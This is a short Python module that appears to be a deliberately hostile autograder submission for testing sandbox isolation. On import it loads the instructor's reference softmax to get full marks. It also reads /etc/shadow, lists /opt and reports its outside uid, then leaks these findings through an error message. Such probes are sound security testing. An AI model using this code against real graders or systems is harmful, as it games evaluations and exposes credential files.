"""Hostile: looks for the instructor's reference where the cluster's layout puts it, and for root's files, from inside
the sandbox. It reads the site file (the README's default path, or where HOSTILE_SITE_GUESS says) and runs the
reference that file names, or the one at HOSTILE_REFERENCE_GUESS (Gradescope's layout); it reads /etc/shadow and
/opt, and reports who it is outside (its uid in the kernel's eyes, which no user namespace hides from
/proc/self/status). With the reference found it returns its answer (full marks); without, it fails, naming what it
could not reach."""

import importlib.util
import os
import tomllib
from pathlib import Path

LOOT = []
reference_softmax = None

site = Path(os.environ.get("HOSTILE_SITE_GUESS", "/etc/gpu-systems-grader/site.toml"))
try:
    reference = os.environ.get("HOSTILE_REFERENCE_GUESS") or tomllib.loads(site.read_text())["reference"]
    spec = importlib.util.spec_from_file_location("stolen_softmax", Path(reference) / "kernels/softmax.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    reference_softmax = module.softmax
    LOOT.append(f"ran the reference at {reference}")
except (OSError, KeyError, ImportError) as error:
    LOOT.append(f"reference: {error}")
try:
    LOOT.append(f"shadow: {Path('/etc/shadow').read_text()[:200]}")
except OSError as error:
    LOOT.append(f"shadow: {error}")
try:
    LOOT.append(f"opt: {sorted(os.listdir('/opt'))}")
except OSError as error:
    LOOT.append(f"opt: {error}")
status = Path("/proc/self/status").read_text().splitlines()
LOOT.append(f"uid outside {next(line.split()[1] for line in status if line.startswith('Uid:'))}")


def softmax(x):
    if reference_softmax is not None:
        return reference_softmax(x)
    raise RuntimeError("loot: " + " | ".join(LOOT))
